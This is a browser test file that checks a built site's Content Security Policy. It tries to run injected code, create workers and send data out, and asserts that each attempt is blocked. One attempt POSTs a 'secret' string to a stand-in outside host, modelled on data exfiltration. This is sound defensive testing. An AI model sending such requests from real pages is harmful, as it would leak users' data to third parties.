/** What the built page lets happen: nothing runs but the site's own files, and nothing leaves it. */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openSite, type Site } from "./support/site.ts";

let site: Site;
beforeAll(async () => {
  site = await openSite();
});
afterAll(async () => {
  await site?.close();
});

/** What becomes of each attempt, made by the page itself: "done", or the name of the error. */
const attempted = (page: Page) =>
  page.evaluate(async () => {
    const attempts: Readonly<Record<string, () => unknown>> = {
      "code from text": () => new Function("return 1")(),
      "markup from text": () => {
        document.createElement("p").innerHTML = "<b>bold</b>";
      },
      "a script in the page": () => {
        document.createElement("script").textContent = "window.ran = true";
      },
      "a worker from text": () => new Worker("data:text/javascript,0"),
      "a worker from elsewhere": () => new Worker("https://elsewhere.example/worker.js"),
      "a message to elsewhere": () => fetch("https://elsewhere.example/", { method: "POST", body: "secret" }),
    };
    const outcomes: [string, string][] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      // A turn of its own: what a debugger calls directly is let through more than what a page does.
      const outcome = await new Promise<string>((resolve) => {
        setTimeout(async () => {
          try {
            await attempt();
            resolve("done");
          } catch (error) {
            resolve((error as Error).name);
          }
        });
      });
      outcomes.push([name, outcome]);
    }
    return outcomes;
  });

describe("the policy of the built page", () => {
  it("refuses code and markup from text, scripts from elsewhere and messages to elsewhere", async () => {
    const { page, complaints } = await site.open();
    await page.locator(".byline").waitFor();
    expect(complaints).toEqual([]);
    for (const [name, outcome] of await attempted(page)) expect(outcome, name).toMatch(/Error$/);
    await expect.poll(() => complaints.join("\n")).toContain("policy broken: connect-src https://elsewhere.example");
  });

  it("stands in the page itself and in what the server says", async () => {
    const { page } = await site.open();
    const inPage = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
    const said = (await page.request.get(site.address)).headers()["content-security-policy"];
    for (const policy of [inPage, said]) {
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).not.toMatch(/unsafe|https?:/);
    }
    expect(await page.locator("script:not([src]), style, [style*='url']").count()).toBe(0);
  });
});
